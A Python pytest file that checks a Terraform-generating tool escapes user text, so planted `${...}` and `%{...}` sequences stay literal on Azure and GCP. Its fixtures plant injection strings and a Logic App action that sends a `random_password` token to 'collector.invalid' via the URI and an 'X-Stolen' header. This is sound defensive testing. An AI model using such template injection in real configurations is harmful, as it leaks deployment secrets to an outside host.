"""Issue #11 (1): user text reaches Terraform JSON as text, never as an interpolation.

A hostile Logic App definition tries to send the bridge token (a `random_password` result) to a
URL of its author's choosing; the same `${...}`/`%{...}` text is planted in every other free-text
field of the project (constants, initial values, feedback payloads, workflow steps). After synth,
no sequence Terraform would evaluate contains any of it, and the Logic App action holds the text
exactly as written.
"""

from __future__ import annotations

import json

import pytest

from constructs_lib.terraform_text import literal
from tests.conftest import REPO, write_project
from tests.gcp.synth import synth_terraform
from tests.hostile.terraform_templates import evaluated_sequences, strings_in

MARK = "INJECTED"
STEAL = "${random_password.ActionToken.result}"
PLANTED = [f"${{{MARK}.a}}", f"%{{ if {MARK} }}x%{{ endif }}", f"$${{{MARK}}}", f"$$${{{MARK}}}", STEAL]


@pytest.mark.parametrize(
    "text, expected",
    [
        ("plain", []),
        ("${a.b}", ["${a.b}"]),
        ("$${a.b}", []),
        ("$$${a.b}", []),  # a literal "$" followed by the escape "$${"
        ("x %{ if c }y%{ endif }", ["%{ if c }", "%{ endif }"]),
        ("%%{ if c }", []),
        ("${ {a = 1}.a }", ["${ {a = 1}.a }"]),
    ],
)
def test_the_template_reader_follows_terraform_syntax(text, expected):
    assert evaluated_sequences(text) == expected


@pytest.mark.parametrize("text", ["plain", "${a}", "%{b}", "$${c}", "%%{d}", "$$${e}", "${${f}}", "a$", "b%", "{}"])
def test_literal_text_evaluates_to_itself(text):
    escaped = literal(text)
    assert evaluated_sequences(escaped) == []
    # Terraform's unescaping of the two escapes gives the text back.
    assert _unescape(escaped) == text


# cosmic-ray has no operator for string literals, so `make mutate` makes no mutant of `literal`
# (two str.replace calls): these are its mutants, written by hand; the checks above kill each.
HAND_MUTANTS = {
    "no escaping": lambda text: text,
    "only ${": lambda text: text.replace("${", "$${"),
    "only %{": lambda text: text.replace("%{", "%%{"),
    "$ without its brace": lambda text: text.replace("$", "$$").replace("%{", "%%{"),
    "escapes swapped": lambda text: text.replace("${", "%%{").replace("%{", "$${"),
    "one escape only": lambda text: text.replace("${", "$${", 1).replace("%{", "%%{", 1),
}


@pytest.mark.parametrize("mutant", HAND_MUTANTS)
def test_the_literal_checks_kill_every_hand_mutant_of_the_escaping(mutant):
    escape = HAND_MUTANTS[mutant]
    texts = ["plain", "${a}", "%{b}", "$${c}", "%%{d}", "$$${e}", "${${f}}", "a$", "b%", "{}", "${x} ${y}", "%{x} %{y}"]
    assert any(evaluated_sequences(escape(text)) != [] or _unescape(escape(text)) != text for text in texts)


def _unescape(template: str) -> str:
    out, i = [], 0
    while i < len(template):
        if template[i : i + 3] in ("$${", "%%{"):
            out.append(template[i + 1 : i + 3])
            i += 3
        else:
            out.append(template[i])
            i += 1
    return "".join(out)


def _plant_everywhere(project, workflow_file: str, plant_workflow) -> None:
    devices = json.loads((project / "config_iot_devices.json").read_text())
    for device in devices:
        for prop in device["properties"]:
            if prop["dataType"] == "STRING":
                prop["initValue"] = " ".join(PLANTED)
        device.setdefault("constProperties", []).append(
            {"name": "plantedText", "dataType": "STRING", "value": " ".join(PLANTED)}
        )
    (project / "config_iot_devices.json").write_text(json.dumps(devices))
    events = json.loads((project / "config_events.json").read_text())
    for rule in events:
        if "feedback" in rule["action"]:
            rule["action"]["feedback"]["payload"] = {"text": " ".join(PLANTED)}
    (project / "config_events.json").write_text(json.dumps(events))
    path = project / "state_machines" / workflow_file
    path.write_text(json.dumps(plant_workflow(json.loads(path.read_text()))))


def _hostile_logic_app(document: dict) -> dict:
    action = document["definition"]["actions"]["FunctionA"]
    action["inputs"]["uri"] = "https://collector.invalid/" + STEAL
    action["inputs"]["headers"]["X-Stolen"] = STEAL
    action["inputs"]["body"] = {"planted": PLANTED}
    return document


def _hostile_google_workflow(document: dict) -> dict:
    document["main"]["steps"][0]["notifyOperator"]["args"]["headers"] = {"X-Stolen": STEAL, "X-Planted": PLANTED}
    return document


@pytest.fixture(scope="module")
def azure_hostile(tmp_path_factory):
    workdir = tmp_path_factory.mktemp("azure-hostile")
    project = write_project(workdir / "project", base=REPO / "examples" / "factory-floor-azure")
    _plant_everywhere(project, "azure_logic_app.json", _hostile_logic_app)
    return synth_terraform(project, workdir)


@pytest.fixture(scope="module")
def google_hostile(tmp_path_factory):
    workdir = tmp_path_factory.mktemp("google-hostile")
    project = write_project(workdir / "project", base=REPO / "examples" / "factory-floor-gcp")
    _plant_everywhere(project, "google_cloud_workflow.json", _hostile_google_workflow)
    return synth_terraform(project, workdir)


def _evaluated_user_text(synth) -> list[tuple[str, str]]:
    return [
        (stack, sequence)
        for stack in synth.stack_names
        for text in strings_in(synth.stack_json(stack))
        for sequence in evaluated_sequences(text)
        if MARK in sequence or "ActionToken" in sequence and "Stolen" in text
    ]


def test_no_user_text_forms_an_interpolation_on_azure(azure_hostile):
    assert _evaluated_user_text(azure_hostile) == []


def test_no_user_text_forms_an_interpolation_on_google(google_hostile):
    assert _evaluated_user_text(google_hostile) == []


def test_the_injected_logic_app_action_is_a_literal_string(azure_hostile):
    stack = azure_hostile.stack_json(f"{azure_hostile.config.name}-l2")
    actions = stack["resource"]["azurerm_logic_app_action_custom"]
    body = next(a["body"] for a in actions.values() if a["name"] == "FunctionA")
    assert evaluated_sequences(body) == []
    inputs = json.loads(_unescape(body))["inputs"]
    assert inputs["headers"]["X-Stolen"] == STEAL  # exactly as the user wrote it, as text
    assert inputs["uri"] == "https://collector.invalid/" + STEAL
    assert inputs["body"] == {"planted": PLANTED}


def test_the_token_itself_is_only_referenced_by_our_own_resources(azure_hostile):
    """The real interpolation of the token stays where we put it: the Key Vault secret."""
    stack = azure_hostile.stack_json(f"{azure_hostile.config.name}-l2")
    users = [
        kind
        for kind, resources in stack["resource"].items()
        for resource in resources.values()
        for text in strings_in(resource)
        for sequence in evaluated_sequences(text)
        if "random_password" in sequence
    ]
    assert users and set(users) == {"azurerm_key_vault_secret"}


def test_the_google_workflow_keeps_the_hostile_text_literally(google_hostile):
    stack = google_hostile.stack_json(f"{google_hostile.config.name}-l2")
    (workflow,) = stack["resource"]["google_workflows_workflow"].values()
    source = workflow["source_contents"]
    assert evaluated_sequences(source) == []
    headers = json.loads(_unescape(source))["main"]["steps"][0]["notifyOperator"]["args"]["headers"]
    assert headers == {"X-Stolen": STEAL, "X-Planted": PLANTED}
